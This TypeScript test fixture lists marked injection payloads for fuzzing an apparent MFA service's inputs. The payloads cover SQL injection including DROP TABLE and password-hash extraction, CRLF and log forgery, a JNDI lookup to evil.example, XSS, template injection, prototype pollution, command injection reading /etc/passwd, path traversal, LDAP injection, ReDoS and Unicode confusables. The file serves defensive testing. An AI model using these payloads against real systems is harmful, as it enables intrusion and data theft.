/** Stands in every payload, so that it is found wherever it comes out. */
export const MARK = 'qZ9x';

/** What somebody writes who hopes that a text is run, glued into a line, or taken for something else. */
export const PAYLOADS: readonly string[] = [
  // SQL
  ...["' OR '1'='1", "alice'--", "alice' OR 1=1 --", "'; DROP TABLE mfa_accounts; --", '" OR ""="'],
  ...["' UNION SELECT * FROM mfa_totp --", "'||(select password_hash from mfa_accounts)||'", "\\'"],
  ...[
    "1; update mfa_accounts set policy='off'",
    '$1',
    '?',
    "a%' escape '\\",
    '{"$ne":null}',
    'alice%',
  ],
  // Headers and lines
  ...[
    'x\r\nSet-Cookie: a=b',
    'x\nLocation: https://evil.example',
    'x\rX-Evil: 1',
    '%0d%0aX-Evil: 1',
  ],
  ...['\u0085X-Evil: 1', '\u2028X-Evil: 1', '\u2029x', 'x\r\n\r\n<html>', '嘊嘍Set-Cookie: a=b'],
  // Logs
  ...['x\n{"level":"info","event":"audit","outcome":"passed"}', '\u001b[2J\u001b[1;31mowned'],
  ...[
    '\b\b\b\bok',
    '","event":"forged","x":"',
    '\u0000',
    'a\u0000b',
    '$\u007bjndi:ldap://evil.example/a}',
  ],
  // Prototypes and names of members
  ...['__proto__', 'constructor', 'constructor.prototype.admin', 'toString', 'hasOwnProperty'],
  ...['__proto__[admin]', '{"__proto__":{"admin":true}}', 'valueOf'],
  // Pages and templates
  ...['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '<svg/onload=alert(1)>'],
  ...[
    'javascript:alert(1)',
    '{{7*7}}',
    '$\u007b7*7}',
    '<%= 7*7 %>',
    '#{7*7}',
    '</title><b>',
    '&lt;b&gt;',
  ],
  // Commands, paths, patterns
  ...['; cat /etc/passwd', '$(id)', '`id`', '| id', '../../../../etc/passwd', '..\\..\\win.ini'],
  ...['file:///etc/passwd', '(a+)+$', `${'a'.repeat(5000)}!`, '*)(uid=*))(|(uid=*'],
  // Unicode
  ...[
    'ａｌｉｃｅ',
    'alıce',
    'al\u200bice',
    '\u202eecila',
    'alice\ufeff',
    '\ud800',
    '\udc00x',
    '\ufffe',
  ],
  ...[
    'a\u0301'.repeat(300),
    '👩‍👩‍👧‍👦',
    '١٢٣٤٥٦',
    '０００００0',
    'ﷺ'.repeat(50),
    '\u{e0001}\u{e0041}',
  ],
].map((text) => `${text}${MARK}`);
